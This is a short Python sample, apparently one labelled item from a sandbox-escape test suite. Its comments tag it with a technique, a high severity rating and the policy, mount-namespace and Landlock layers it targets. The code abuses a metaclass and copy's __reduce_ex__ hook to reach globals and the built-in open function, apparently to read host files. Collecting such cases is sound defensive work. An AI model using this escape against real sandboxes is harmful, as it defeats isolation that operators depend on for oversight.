# technique: a metaclass given as a keyword makes a class of forbidden methods
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

def meta(name, bases, space):
    return type(name, bases, {"__reduce_" + "ex__": space["hook"]})

class Deputy(metaclass=meta):
    def hook(self, protocol):
        return (globals, ())

read_host(lambda: copy.copy(Deputy())["__builtins__"]["open"])
